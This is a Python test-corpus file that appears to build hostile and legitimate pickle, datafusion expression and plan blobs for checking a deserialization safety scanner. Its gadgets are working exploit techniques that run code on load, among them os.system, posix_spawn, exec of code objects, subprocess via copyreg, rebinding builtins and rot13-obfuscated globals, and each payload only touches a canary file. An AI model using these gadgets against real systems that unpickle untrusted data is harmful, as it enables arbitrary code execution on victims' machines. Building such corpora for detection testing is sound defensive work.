"""The safety corpus: hostile blobs that run code when loaded the normal way, and legit blobs that must not be
flagged. Building a case never loads anything (``canary.py`` loads them, in throwaway processes).

Each ``Case`` builds bytes for a canary path. A hostile case's bytes, loaded the way ``kind`` says (see
``canary.py``), create that path (a file, or a directory for datafusion's COPY) and do nothing else. A legit case
is built by real datafusion + cloudpickle from ordinary user code (``user_jobs.USER_JOBS``, shipped by value)
and loads without error.

Rules (hostile):
  R1-mutation       BUILD/SETITEM/APPEND on objects the stream did not create; trusted names rebound before use
  R2-computed       getattr on a call result, subimport of a computed/dangerous module, computed STACK_GLOBAL
  R3-dotted         dotted STACK_GLOBAL names that walk through one module into another (``x.os.spawnvp``)
  R4-opcodes        OBJ / INST / NEWOBJ / NEWOBJ_EX calls, EXT after copyreg.add_extension, PERSID/BINPERSID
  R5-nonstdlib      third-party targets doing harm (pyarrow file APIs, a datafusion COPY through SessionContext)
  R6-reconstructor  allowlisted reconstructors abused (function metaclass, CodeType/FunctionType then a call)
  R7-unwalkable     streams (or protobuf framing) a static reader may not walk to the end, which the real
                    decoder runs
  R8-unexpanded     a hostile UDF under plan nodes the protobuf tables may not expand (Unnest, COPY sinks,
                    EXPLAIN ANALYZE, …); built by datafusion itself around a callable with a hostile __reduce__

Carriers: pickle (``pickle.dumps(expr)`` shape), expr (raw ``Expr.to_bytes``, payload nested or protobuf-level
trick), udf-scalar / udf-aggregate / udf-window (the DFPYUDF/UDA/UDW stream of a top-level UDF call), chn (a
DFPYCHN envelope), logical / physical (plan bytes), text-b64 / text-hex (text of any of the above).
numpy and pandas are not installed in this environment, so no case uses them (``numpy.f2py``-style walks and
``numpy.savetxt`` are not in the corpus).
"""

from __future__ import annotations

import base64
import enum
import functools
import importlib
import os
import pickle
import shlex
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType

import cloudpickle

from support import pickle_asm as pa_
from support.pickle_asm import (
    ADDITEMS,
    APPEND,
    BINPERSID,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_SET,
    EMPTY_TUPLE,
    FROZENSET,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    NEWTRUE,
    NONE,
    OBJ,
    POP,
    POP_MARK,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    TUPLE,
    Asm,
    bb,
    call,
    dct,
    g,
    get,
    i,
    ld,
    lst,
    py,
    s,
    text_global,
    tup,
    varint,
)  # fmt: skip
from support.user_jobs import HOSTILE_HELPERS, USER_JOBS

REPO = Path(__file__).resolve().parents[2]
PARQUET = REPO / "fixtures" / "data" / "small.parquet"
CP = "cloudpickle.cloudpickle"
CODEC_ID = "my_library.Codec"

RULES = ("R1-mutation", "R2-computed", "R3-dotted", "R4-opcodes", "R5-nonstdlib", "R6-reconstructor",
         "R7-unwalkable", "R8-unexpanded")  # fmt: skip
CARRIERS = ("pickle", "expr", "udf-scalar", "udf-aggregate", "udf-window", "chn", "logical", "physical",
            "text-b64", "text-hex")  # fmt: skip
#: carrier -> how a receiver loads it (canary.py kinds)
KINDS = {"pickle": "pickle", "expr": "expr", "udf-scalar": "expr", "udf-aggregate": "expr", "udf-window": "expr",
         "chn": "expr", "logical": "logical", "physical": "physical"}  # fmt: skip


@dataclass(frozen=True)
class Case:
    name: str
    rule: str  # one of RULES, or "legit"
    carrier: str  # one of CARRIERS
    build: Callable[[Path], bytes]
    hostile: bool
    note: str = ""
    kind: str = (
        ""  # how the receiver loads it (canary.py): pickle / expr / logical / physical, b64:/hex: prefix
    )
    receiver: str = ""  # receiver setup (canary.py), e.g. an EXT registration or an installed codec

    @property
    def gray(self) -> bool:
        """Plain cloudpickle output that runs by-value code while decoding: ``code``, said, not ``suspicious``."""
        return self.name.split("@")[0] in GRAY


#: hostile cases no reading can tell from ordinary cloudpickle output (a by-value class's ``__reduce__`` calling
#: by-value code writes the same stream): the verdict is ``code`` with a ``runs-at-decode`` finding
GRAY = frozenset({"make-function-called"})


# --- the user's modules, shipped by value ---------------------------------------------------------------------
@functools.cache
def _by_value_module(name: str, source: str) -> ModuleType:
    directory = Path(tempfile.mkdtemp(prefix="exprtool-corpus-"))
    (directory / f"{name}.py").write_text(source)
    sys.path.insert(0, str(directory))
    try:
        module = importlib.import_module(name)
    finally:
        sys.path.remove(str(directory))
    cloudpickle.register_pickle_by_value(module)
    return module


def user() -> ModuleType:
    return _by_value_module("exprtool_corpus_user_job", USER_JOBS)


def helpers() -> ModuleType:
    return _by_value_module("exprtool_corpus_helpers", HOSTILE_HELPERS)


def by_value(factory: str, *args: object) -> bytes:
    """The cloudpickle stream of a by-value helper function (ordinary cloudpickle shape)."""
    return cloudpickle.dumps(getattr(helpers(), factory)(*args), protocol=5)


# --- real blobs (datafusion's own output) ---------------------------------------------------------------------
def _ctx():
    from datafusion import SessionContext

    ctx = SessionContext()
    ctx.register_parquet("t", str(PARQUET))
    return user().register_all(ctx)


@functools.cache
def real(name: str) -> bytes:
    """A real blob with at least one inline UDF, by name."""
    from datafusion import SessionContext, col, lit

    u = user()
    if name == "scalar":
        return u.base_scalar().to_bytes()
    if name == "aggregate":
        return u.base_aggregate().to_bytes()
    if name == "window":
        return u.base_window().to_bytes()
    if name == "nested":  # CASE WHEN a > 1 THEN double_it(a) + 1 END AS x
        from datafusion import functions as f

        return f.case(col("a") > lit(1)).when(lit(True), u.base_scalar() + lit(1)).end().alias("x").to_bytes()
    if name == "chn":
        outer = SessionContext().with_python_udf_inlining(enabled=False)
        sender = outer.with_logical_extension_codec(SessionContext(), codec_id=CODEC_ID)
        return u.base_scalar().to_bytes(sender)
    if name == "pickle":
        return pickle.dumps(u.base_scalar())
    if name == "logical":
        return _ctx().sql("SELECT double_it(a) AS d, s FROM t WHERE b > 1").logical_plan().to_bytes()
    if name == "physical":
        return _ctx().sql("SELECT running_sum(a) AS r FROM t GROUP BY s").execution_plan().to_bytes()
    raise KeyError(name)


@functools.cache
def plain_expr_pickle(protocol: int = 4) -> bytes:
    from datafusion import col, lit

    return pickle.dumps((col("a") + lit(1)).alias("x"), protocol=protocol)


# --- carriers: where a gadget goes ------------------------------------------------------------------------------
Gadget = Callable[[Asm, str], None]  # emits opcodes leaving exactly one value on the stack


def prefixed(gadget: Gadget, real_stream: bytes, c: str, protocol: int = 5) -> bytes:
    """The gadget, its value popped, then the real stream: the load still returns what the real one did.
    The stream is declared ``protocol`` (dotted global names need 4+; protocol 2 maps ``__builtin__``)."""
    a = Asm()
    gadget(a, c)
    a(POP)
    a.embed(real_stream)
    return a.pickle(protocol)


def in_pickle(gadget: Gadget, protocol: int = 4) -> Callable[[Path], bytes]:
    """Gadget in front of a real ``pickle.dumps(expr, protocol)``; the stream keeps protocols below 4."""
    header = protocol if protocol < 4 else 5
    return lambda canary: prefixed(gadget, plain_expr_pickle(protocol), str(canary), header)


def in_udf(source: str, gadget: Gadget) -> Callable[[Path], bytes]:
    """Gadget in front of every inline UDF stream of ``real(source)``."""
    return lambda canary: pa_.rewrite_streams(real(source), lambda st: prefixed(gadget, st, str(canary)))


def in_stream(source: str, transform: Callable[[bytes, str], bytes]) -> Callable[[Path], bytes]:
    """Every inline UDF stream of ``real(source)`` replaced by ``transform(real stream, canary)``."""
    return lambda canary: pa_.rewrite_streams(real(source), lambda st: transform(st, str(canary)))


def as_text(encoding: str, build: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    if encoding == "b64":
        return lambda canary: base64.b64encode(build(canary)) + b"\n"
    return lambda canary: build(canary).hex().encode() + b"\n"


# --- payload pieces -------------------------------------------------------------------------------------------------
def cmd(c: str) -> str:
    return f"touch {shlex.quote(c)}"


def src(c: str) -> str:
    return f"open({c!r}, 'w').close()"


def argv(c: str) -> bytes:
    return lst(s("touch"), s(c))


def getattr_(owner: bytes, name: str) -> bytes:
    return call(g("builtins", "getattr"), owner, s(name))


def subimport(name: bytes) -> bytes:
    return call(g(CP, "subimport"), name)


def builtin_via_dict(name: str) -> bytes:
    """A builtin reached as ``builtins.__dict__.get(name)``: the name travels as a string argument."""
    return call(g("builtins", "__dict__.get"), s(name))


def system_plain(a: Asm, c: str) -> None:
    a(call(g("os", "system"), s(cmd(c))))


def setattrs(target: bytes, **attrs: bytes) -> bytes:
    """BUILD with a slot-state dict: ``setattr(target, k, v)`` for each item; leaves target."""
    return target + tup(NONE, dct(*((s(k), v) for k, v in attrs.items()))) + BUILD


# --- R1: mutation ---------------------------------------------------------------------------------------------
def m_builtins_getattr(flavour: str) -> Gadget:
    """``builtins.__dict__['getattr'] = evil``; then a plain ``builtins.getattr(...)`` call runs evil;
    then getattr is put back (the Expr tail still works)."""

    def gadget(a: Asm, c: str) -> None:
        a(g("builtins", "getattr"))
        saved = a.memoize()
        a(POP, g("builtins", "__dict__"), s("getattr"))
        if flavour == "exec":
            a(builtin_via_dict("exec"), SETITEM, POP, call(g("builtins", "getattr"), s(src(c)), EMPTY_DICT))
        else:
            a.embed(by_value("opener", c))
            a(SETITEM, POP, call(g("builtins", "getattr"), s("x"), s("y")))
        a(g("builtins", "__dict__"), s("getattr"), get(saved), SETITEM, POP)

    return gadget


def m_expr_reconstruct(a: Asm, c: str) -> None:
    """BUILD on the datafusion Expr class: ``Expr._reconstruct = exec``; the canonical
    ``getattr(Expr, '_reconstruct')(<bytes>)`` then execs the bytes; the original is restored after."""
    a(call(g("datafusion.expr", "Expr.__dict__.get"), s("_reconstruct")))  # the classmethod object itself
    saved = a.memoize()
    a(POP, setattrs(g("datafusion.expr", "Expr"), _reconstruct=builtin_via_dict("exec")), POP)
    a(call(getattr_(g("datafusion.expr", "Expr"), "_reconstruct"), bb(src(c).encode())))
    a(setattrs(g("datafusion.expr", "Expr"), _reconstruct=get(saved)), POP)


def m_codecs_encode_self(a: Asm, c: str) -> None:
    """``_codecs.encode.__self__`` is the _codecs module: BUILD rebinds ``encode`` to open, then the protocol-2
    shape ``_codecs.encode(<str>, <str>)`` creates the file; restored after. Written for a protocol-2 stream:
    no dotted names (``open`` is ``getattr(builtins.getattr.__self__, 'open')``)."""
    open_ = getattr_(getattr_(g("builtins", "getattr"), "__self__"), "open")
    a(g("_codecs", "encode"))
    saved = a.memoize()
    a(POP, getattr_(get(saved), "__self__"))
    codecs_module = a.memoize()
    a(POP, setattrs(get(codecs_module), encode=open_), POP)
    a(call(g("_codecs", "encode"), s(c), s("w")))
    a(setattrs(get(codecs_module), encode=get(saved)), POP)


def m_copyreg_globals(flavour: str) -> Gadget:
    """``copyreg._reconstructor.__globals__['_reconstructor'] = evil``, then a 3-argument
    ``copyreg._reconstructor(...)`` call; restored after (through the memoized globals dict)."""

    def gadget(a: Asm, c: str) -> None:
        a(g("copyreg", "_reconstructor"))
        saved = a.memoize()
        a(POP, g("copyreg", "_reconstructor.__globals__"))
        globs = a.memoize()
        a(s("_reconstructor"))
        if flavour == "exec":
            a(builtin_via_dict("exec"), SETITEM, POP)
            a(call(g("copyreg", "_reconstructor"), s(src(c)), EMPTY_DICT, EMPTY_DICT))
        else:
            a.embed(by_value("opener", c))
            a(
                SETITEM,
                POP,
                call(g("copyreg", "_reconstructor"), g("builtins", "object"), g("builtins", "object"), NONE),
            )
        a(get(globs), s("_reconstructor"), get(saved), SETITEM, POP)

    return gadget


def m_functools_partial(a: Asm, c: str) -> None:
    """``functools.partial`` (an allowlisted reconstructor) rebound through ``functools.__dict__`` to a
    by-value function, called, restored."""
    a(g("functools", "partial"))
    saved = a.memoize()
    a(POP, g("functools", "__dict__"), s("partial"))
    a.embed(by_value("opener", c))
    a(SETITEM, POP, call(g("functools", "partial"), g("builtins", "len")))
    a(g("functools", "__dict__"), s("partial"), get(saved), SETITEM, POP)


def m_builtin_type_build(a: Asm, c: str) -> None:
    """BUILD on ``subimport('cloudpickle.cloudpickle')`` rebinds ``_builtin_type`` to a by-value function that
    touches the canary and returns the real type: the unchanged real stream's own ``_builtin_type('CodeType')``
    calls then run it, and decoding succeeds. Not restored: the receiver's cloudpickle stays patched."""
    a(subimport(s(CP)), MARK, NONE, EMPTY_DICT, s("_builtin_type"))
    a.embed(by_value("opening_builtin_type", c))
    a(SETITEM, TUPLE, BUILD)


def m_builtin_type_setitem(a: Asm, c: str) -> None:
    """Same as the BUILD variant, through SETITEM on ``cloudpickle.cloudpickle.__dict__``."""
    a(g(CP, "__dict__"), s("_builtin_type"))
    a.embed(by_value("opening_builtin_type", c))
    a(SETITEM)


def m_meta_path_append(a: Asm, c: str) -> None:
    """APPEND a finder (a fresh SimpleNamespace whose ``find_spec`` is a by-value function) to
    ``sys.meta_path`` (reached as ``cloudpickle.cloudpickle.sys.meta_path``), then ``subimport`` a module nobody
    has: the import system calls the finder. The load then fails with ModuleNotFoundError."""
    a(g(CP, "sys.meta_path"), call(g("types", "SimpleNamespace")), MARK, NONE, EMPTY_DICT, s("find_spec"))
    a.embed(by_value("opener", c))
    a(SETITEM, TUPLE, BUILD, APPEND, POP, subimport(s("exprtool_corpus_module_nobody_has")))


def m_sys_modules_alias(a: Asm, c: str) -> None:
    """SETITEM on ``sys.modules`` (reached as ``platform.sys.modules``): alias an innocent module name to os,
    then ``STACK_GLOBAL datafusion_udf_helpers.system`` resolves to os.system."""
    a(g("platform", "sys.modules"), s("datafusion_udf_helpers"), g("platform", "os"), SETITEM, POP)
    a(call(g("datafusion_udf_helpers", "system"), s(cmd(c))))


# --- R2: computed owners and names ----------------------------------------------------------------------------------
def c_getattr_subimport(module: str, attr: str, args: Callable[[str], bytes]) -> Gadget:
    def gadget(a: Asm, c: str) -> None:
        a(func_call(getattr_(subimport(s(module)), attr), args(c)))

    return gadget


def func_call(func: bytes, args: bytes) -> bytes:
    return func + args + REDUCE


def one(value: Callable[[str], bytes]) -> Callable[[str], bytes]:
    return lambda c: tup(value(c))


def c_globals_walk_cloudpickle(a: Asm, c: str) -> None:
    """``_make_function.__globals__.get('platform').os.system(cmd)``: every owner is a computed value."""
    globs = getattr_(g(CP, "_make_function"), "__globals__")
    platform = call(getattr_(globs, "get"), s("platform"))
    a(call(getattr_(getattr_(platform, "os"), "system"), s(cmd(c))))


def c_globals_walk_expr(a: Asm, c: str) -> None:
    """Outer-pickle flavour: ``Expr.__init__.__globals__.get('pa').lib.os.system(cmd)``."""
    globs = getattr_(getattr_(g("datafusion.expr", "Expr"), "__init__"), "__globals__")
    pyarrow = call(getattr_(globs, "get"), s("pa"))
    a(call(getattr_(getattr_(getattr_(pyarrow, "lib"), "os"), "system"), s(cmd(c))))


def c_subimport_str(a: Asm, c: str) -> None:
    """``subimport(builtins.str(b'posix', 'ascii'))``: the module name is computed."""
    posix = subimport(call(g("builtins", "str"), bb(b"posix"), s("ascii")))
    a(call(getattr_(posix, "system"), s(cmd(c))))


def c_subimport_bytes_decode(a: Asm, c: str) -> None:
    """``subimport(bytes.decode(b'os'))``: the module name is computed by an unbound method."""
    os_mod = subimport(call(g("builtins", "bytes.decode"), bb(b"os")))
    a(call(getattr_(os_mod, "system"), s(cmd(c))))


def c_stack_global_rot13(a: Asm, c: str) -> None:
    """STACK_GLOBAL whose module and name are ``_codecs.decode('bf', 'rot13')`` / ``('flfgrz', 'rot13')``."""
    module = call(g("_codecs", "decode"), s("bf"), s("rot13"))
    name = call(g("_codecs", "decode"), s("flfgrz"), s("rot13"))
    a(call(module + name + STACK_GLOBAL, s(cmd(c))))


def c_stack_global_str(a: Asm, c: str) -> None:
    """STACK_GLOBAL whose module and name are ``builtins.str(b'posix', 'ascii')`` / ``str(b'system', 'ascii')``."""
    module = call(g("builtins", "str"), bb(b"posix"), s("ascii"))
    name = call(g("builtins", "str"), bb(b"system"), s("ascii"))
    a(call(module + name + STACK_GLOBAL, s(cmd(c))))


# --- R3: dotted names walking into other modules -------------------------------------------------------------------
def dotted(module: str, name: str, args: Callable[[str], bytes]) -> Gadget:
    def gadget(a: Asm, c: str) -> None:
        a(func_call(g(module, name), args(c)))

    return gadget


def spawnvp_args(c: str) -> bytes:
    return tup(i(0), s("touch"), argv(c))  # os.P_WAIT == 0


def spawnlp_args(c: str) -> bytes:
    return tup(i(0), s("touch"), s("touch"), s(c))


def posix_spawn_args(c: str) -> bytes:
    return tup(s("/usr/bin/touch"), argv(c), EMPTY_DICT)


def run_args(c: str) -> bytes:
    return tup(argv(c))


def d_call_tracing(a: Asm, c: str) -> None:
    """``cloudpickle.cloudpickle.sys.call_tracing(pyarrow.util.os.posix_spawnp, (...))``."""
    a(call(g(CP, "sys.call_tracing"), g("pyarrow.util", "os.posix_spawnp"), posix_spawn_args(c)))


# --- R4: other calling opcodes --------------------------------------------------------------------------------------
def o_obj_plain(a: Asm, c: str) -> None:
    """OBJ (MARK callable args OBJ) calls ``os.system``: no REDUCE anywhere."""
    a(MARK, g("os", "system"), s(cmd(c)), OBJ)


def o_obj_by_value(a: Asm, c: str) -> None:
    """OBJ calls a by-value function (a legit cloudpickle function shape, then called at load)."""
    a(MARK)
    a.embed(by_value("opener", c))
    a(OBJ)


def o_inst(module: str, name: str, args: Callable[[str], bytes]) -> Gadget:
    """INST (protocol 0): ``MARK args INST module\\nname\\n`` calls the named global."""

    def gadget(a: Asm, c: str) -> None:
        a(MARK, args(c), b"i" + module.encode() + b"\n" + name.encode() + b"\n")

    return gadget


def o_newobj_starmap(a: Asm, c: str) -> None:
    """NEWOBJ builds ``itertools.starmap(fn, [()])`` (a type, so NEWOBJ accepts it) around a by-value function;
    ``builtins.tuple`` drives the iterator, which calls fn."""
    a(g("builtins", "tuple"), MARK, g("itertools", "starmap"), MARK)
    a.embed(by_value("opener", c))
    a(lst(EMPTY_TUPLE), TUPLE, NEWOBJ, TUPLE, REDUCE)


def o_newobj_ex_map(a: Asm, c: str) -> None:
    """NEWOBJ_EX builds ``map(os.system, [cmd])``; ``builtins.tuple`` drives it."""
    a(g("builtins", "tuple"), MARK, g("builtins", "map"), tup(g("os", "system"), lst(s(cmd(c)))), EMPTY_DICT)
    a(NEWOBJ_EX, TUPLE, REDUCE)


EXT_CODES = {1: 0xF0, 2: 0xBEEF, 4: 0x7EAD_BEEF}


def o_ext(width: int) -> Gadget:
    """EXT1/EXT2/EXT4 resolve ``os.system`` through copyreg's extension registry (the receiver registered it)."""

    def gadget(a: Asm, c: str) -> None:
        code = EXT_CODES[width]
        op = {1: b"\x82", 2: b"\x83", 4: b"\x84"}[width] + code.to_bytes(width, "little")
        a(call(op, s(cmd(c))))

    return gadget


def ext_receiver(width: int) -> str:
    return f"ext:os:system:{EXT_CODES[width]}"


def o_binpersid(a: Asm, c: str) -> None:
    """The callable goes through BINPERSID (the receiver's persistent_load hands the id back)."""
    a(call(g("posix", "system") + BINPERSID, s(cmd(c))))


def o_persid_first(a: Asm, c: str) -> None:
    """A PERSID (text id) before the gadget: a reader that stops at persistent ids never sees it."""
    a(b"Pstore-key-1\n", POP)
    system_plain(a, c)


# --- R5: third-party targets -------------------------------------------------------------------------------------
def n_osfile(a: Asm, c: str) -> None:
    a(call(g("pyarrow.lib", "OSFile"), s(c), s("w")))


def n_osfile_newobj(a: Asm, c: str) -> None:
    """NEWOBJ ``pyarrow.lib.OSFile`` (canary, 'w'): its Cython ``__cinit__`` opens the file; no call at all."""
    a(g("pyarrow.lib", "OSFile"), tup(s(c), s("w")), NEWOBJ)


def n_osfile_copyreg_newobj(a: Asm, c: str) -> None:
    """``copyreg.__newobj__(pyarrow.lib.OSFile, canary, 'w')``: the same through copyreg."""
    a(call(g("copyreg", "__newobj__"), g("pyarrow.lib", "OSFile"), s(c), s("w")))


def n_memory_map(a: Asm, c: str) -> None:
    a(call(g("pyarrow.lib", "create_memory_map"), s(c), i(8)))


def _sql(query: str) -> bytes:
    ctx = call(g("datafusion.context", "SessionContext"))
    return call(g("datafusion.context", "SessionContext.sql"), ctx, s(query))


def n_copy_to(a: Asm, c: str) -> None:
    """``SessionContext().sql("COPY (SELECT 1) TO '<canary>' STORED AS CSV").collect()`` as named globals
    (unbound methods): datafusion writes the canary (a directory) at load."""
    query = f"COPY (SELECT 1 AS a) TO '{c}' STORED AS CSV"
    a(call(g("datafusion.dataframe", "DataFrame.collect"), _sql(query)))


def n_write_csv(a: Asm, c: str) -> None:
    """``DataFrame.write_csv(SessionContext().sql('SELECT 1'), <canary>)``."""
    a(call(g("datafusion.dataframe", "DataFrame.write_csv"), _sql("SELECT 1 AS a"), s(c)))


# --- R6: allowlisted reconstructors abused ----------------------------------------------------------------------------
def r_skeleton_function_meta(a: Asm, c: str) -> None:
    """``_make_skeleton_class(<by-value function>, 'Acc', (), {}, None, None)``: types.new_class calls the
    'metaclass' at load."""
    a(g(CP, "_make_skeleton_class"), MARK)
    a.embed(by_value("opening_metaclass", c))
    a(s("Acc"), EMPTY_TUPLE, EMPTY_DICT, NONE, NONE, TUPLE, REDUCE)


def r_skeleton_builtin_meta(a: Asm, c: str) -> None:
    """``_make_skeleton_class(os.posix_spawn, '/usr/bin/touch', ('touch', canary), {}, None, None)``: the
    'metaclass' is called as (name, bases, namespace)."""
    a(call(g(CP, "_make_skeleton_class"), g("os", "posix_spawn"), s("/usr/bin/touch"), tup(s("touch"), s(c)),
           EMPTY_DICT, NONE, NONE))  # fmt: skip


def _code(c: str):  # noqa: ANN202
    return compile(src(c), "<udf>", "exec")


def r_function_called(flavour: str) -> Gadget:
    """``types.FunctionType(<code>, {})()``: a function built outside cloudpickle's _make_function shape and
    called at load. ``cloudpickle``: the code object as cloudpickle writes it (``_builtin_type('CodeType')``);
    ``direct``: ``types.CodeType(...)`` spelled out."""

    def gadget(a: Asm, c: str) -> None:
        a(g("types", "FunctionType"), MARK)
        if flavour == "cloudpickle":
            a.embed(cloudpickle.dumps(_code(c), protocol=5))
        else:
            co = _code(c)
            a(call(g("types", "CodeType"), *(py(v) for v in (
                co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals, co.co_stacksize,
                co.co_flags, co.co_code, co.co_consts, co.co_names, co.co_varnames, co.co_filename, co.co_name,
                co.co_qualname, co.co_firstlineno, co.co_linetable, co.co_exceptiontable, co.co_freevars,
                co.co_cellvars))))  # fmt: skip
        a(EMPTY_DICT, TUPLE, REDUCE, EMPTY_TUPLE, REDUCE)

    return gadget


def r_make_function_called(a: Asm, c: str) -> None:
    """A by-value function built exactly as cloudpickle builds it (_make_function + _function_setstate), then
    called by a REDUCE with no arguments."""
    a.embed(by_value("opener", c))
    a(EMPTY_TUPLE, REDUCE)


def r_exec_code(a: Asm, c: str) -> None:
    """``exec(<code object as cloudpickle writes it>, {})`` with exec reached through builtins.__dict__."""
    a(builtin_via_dict("exec"), MARK)
    a.embed(cloudpickle.dumps(_code(c), protocol=5))
    a(EMPTY_DICT, TUPLE, REDUCE)


def r_reconstructor_popen(popen: bytes) -> Gadget:
    """``copyreg._reconstructor(Popen, Popen, argv)``: base.__init__(obj, argv) starts the process."""

    def gadget(a: Asm, c: str) -> None:
        a(call(g("copyreg", "_reconstructor"), popen, popen, argv(c)))

    return gadget


def r_reconstructor_base_init(a: Asm, c: str) -> None:
    """``copyreg._reconstructor(string.Template, wave.Wave_write, canary)``: an allowlisted cls, but the base's
    ``__init__`` runs on the state (``Wave_write`` opens the path for writing, then fails on the Template)."""
    a(call(g("copyreg", "_reconstructor"), g("string", "Template"), g("wave", "Wave_write"), s(c)))


def _factory_dict(c: str) -> bytes:
    """``defaultdict(functools.partial(logging.FileHandler, canary))``: both allowlisted value reconstructors;
    a missing key calls the factory, which opens the canary."""
    return call(g("collections", "defaultdict"), call(g("functools", "partial"), g("logging", "FileHandler"), s(c)))


def r_defaultdict_getitem(a: Asm, c: str) -> None:
    """``operator.getitem(<that defaultdict>, 'k')``: the missing key calls the factory."""
    a(call(g("_operator", "getitem"), _factory_dict(c), s("k")))


def _chainmap(*maps: bytes) -> bytes:
    """A ChainMap as pickle writes one (NEWOBJ, then BUILD of its ``maps``)."""
    return g("collections", "ChainMap") + EMPTY_TUPLE + NEWOBJ + dct((s("maps"), lst(*maps))) + BUILD


def r_chainmap_or(factory_dict: Callable[[str], bytes]) -> Gadget:
    """``functools.reduce(operator.or_, [ChainMap({}), ChainMap(<a defaultdict>, {'k': 1})])`` (a type union's own
    shape): ``|`` copies the second map key by key, ChainMap asks the defaultdict first: its factory runs."""

    def gadget(a: Asm, c: str) -> None:
        pair = lst(_chainmap(dct()), _chainmap(factory_dict(c), dct((s("k"), i(1)))))
        a(call(g("functools", "reduce"), g("_operator", "or_"), pair))

    return gadget


def _factory_by_build(c: str) -> bytes:
    """``defaultdict(None)`` given its factory afterwards by a BUILD slot state (``setattr(dd, 'default_factory',
    partial(logging.FileHandler, canary))``)."""
    state = tup(NONE, dct((s("default_factory"), call(g("functools", "partial"), g("logging", "FileHandler"), s(c)))))
    return call(g("collections", "defaultdict"), NONE) + state + BUILD


def _factory_by_newobj(c: str) -> bytes:
    """The same defaultdict created bare by NEWOBJ (no call that names its factory), then BUILD."""
    state = tup(NONE, dct((s("default_factory"), call(g("functools", "partial"), g("logging", "FileHandler"), s(c)))))
    return g("collections", "defaultdict") + EMPTY_TUPLE + NEWOBJ + state + BUILD


def _factory_swapped(c: str) -> bytes:
    """``defaultdict(partial(frozenset))`` whose partial a BUILD (``partial.__setstate__``) points at
    ``logging.FileHandler(canary)`` after the call that built it."""
    part = call(g("functools", "partial"), g("builtins", "frozenset"))
    swap = tup(g("logging", "FileHandler"), tup(s(c)), EMPTY_DICT, NONE)
    return call(g("collections", "defaultdict"), part + swap + BUILD)


def r_planted_hook(hook: str, trigger: bytes) -> Gadget:
    """A ``types.SimpleNamespace`` given ``{hook: logging.FileHandler}`` by a BUILD, then the opcode for which
    pickle looks ``hook`` up on the object and calls it (``trigger`` follows the canary string on the stack)."""

    def gadget(a: Asm, c: str) -> None:
        a(call(g("types", "SimpleNamespace")), dct((s(hook), g("logging", "FileHandler"))), BUILD)
        a(MARK if trigger in (b"e", ADDITEMS) else b"", s(c), trigger)  # APPENDS / ADDITEMS take a marked run

    return gadget


def r_mro_entries(a: Asm, c: str) -> None:
    """``_make_skeleton_class(type, 'X', (<ns>,), {}, None, None)`` where a BUILD gave the SimpleNamespace base an
    ``__mro_entries__`` of ``partial(zipfile.ZipFile, canary, 'w', 0, True)``: creating the class calls it."""
    hook = call(g("functools", "partial"), g("zipfile", "ZipFile"), s(c), s("w"), i(0), NEWTRUE)
    base = call(g("types", "SimpleNamespace")) + dct((s("__mro_entries__"), hook)) + BUILD
    a(call(g(CP, "_make_skeleton_class"), g("builtins", "type"), s("X"), tup(base), EMPTY_DICT, NONE, NONE))


def r_property_getattr(a: Asm, c: str) -> None:
    """Plain cloudpickle output of ``getattr(Holder(), 'p')`` where the by-value class Holder has
    ``p = property(partial(zipfile.ZipFile, canary, 'w', 0, True))``: the getattr runs the getter."""

    class Holder:
        p = property(functools.partial(zipfile.ZipFile, c, "w", 0, True))

    class Trigger:
        def __reduce__(self) -> tuple:
            return (getattr, (Holder(), "p"))

    a.embed(cloudpickle.dumps(Trigger(), protocol=5))


def r_class_setstate_partial(a: Asm, c: str) -> None:
    """Plain cloudpickle output of an instance of a by-value class whose ``__setstate__`` is
    ``staticmethod(partial(zipfile.ZipFile, canary, 'w', 0))``: the instance's BUILD calls it (not by-value code)."""

    class Holder:
        __setstate__ = staticmethod(functools.partial(zipfile.ZipFile, c, "w", 0))

        def __getstate__(self) -> bool:
            return True

    a.embed(cloudpickle.dumps(Holder(), protocol=5))


def r_enum_missing_partial(a: Asm, c: str) -> None:
    """Plain cloudpickle output of ``Color(999)`` where the by-value enum's ``_missing_`` is
    ``staticmethod(partial(zipfile.ZipFile, canary, 'w', 0))``: the lookup of a value it lacks calls it."""

    class Color(enum.Enum):
        RED = 1
        _missing_ = staticmethod(functools.partial(zipfile.ZipFile, c, "w", 0))

    class Trigger:
        def __reduce__(self) -> tuple:
            return (Color, (999,))

    a.embed(cloudpickle.dumps(Trigger(), protocol=5))


def r_class_append(a: Asm, c: str) -> None:
    """APPEND on what ``_class_setstate`` returns (the by-value class itself, whose ``append`` the state set to
    ``staticmethod(partial(zipfile.ZipFile, canary, 'w', 0))``): pickle calls ``C.append(canary)``."""
    skeleton = call(g(CP, "_make_skeleton_class"), g("builtins", "type"), s("C"), EMPTY_TUPLE, EMPTY_DICT, NONE, NONE)
    hook = call(g("builtins", "staticmethod"), call(g("functools", "partial"), g("zipfile", "ZipFile"), s(c), s("w"),
                                                    i(0)))  # fmt: skip
    a(call(g(CP, "_class_setstate"), skeleton, tup(dct((s("append"), hook)), EMPTY_DICT)), s(c), APPEND)


def r_codec_registered(a: Asm, c: str) -> None:
    """A codec planted in ``encodings._cache`` (SETITEM on a ChainMap whose first map it is), then
    ``_codecs.encode('x', 'exprtool_evil')`` runs its encoder ``partial(zipfile.ZipFile, canary, 'w', 0, True)``."""
    encoder = call(g("functools", "partial"), g("zipfile", "ZipFile"), s(c), s("w"), i(0), NEWTRUE)
    a(_chainmap(getattr_(subimport(s("encodings")), "_cache")))
    a(s("exprtool_evil"), tup(encoder, encoder, NONE, NONE), SETITEM, POP)
    a(call(g("_codecs", "encode"), s("x"), s("exprtool_evil")))


# --- implicit hooks of by-value classes: what the interpreter calls on its own while a class or value is built --
def _skeleton(name: str, bases: bytes = EMPTY_TUPLE, meta: bytes = b"", namespace: bytes = EMPTY_DICT) -> bytes:
    return call(g(CP, "_make_skeleton_class"), meta or g("builtins", "type"), s(name), bases, namespace, NONE, NONE)


def _filled(cls: bytes, **attrs: bytes) -> bytes:
    """``_class_setstate(cls, ({attrs}, {}))``: what it returns is the class, filled."""
    return call(g(CP, "_class_setstate"), cls, tup(dct(*((s(k), v) for k, v in attrs.items())), EMPTY_DICT))


def _tar(c: str) -> bytes:
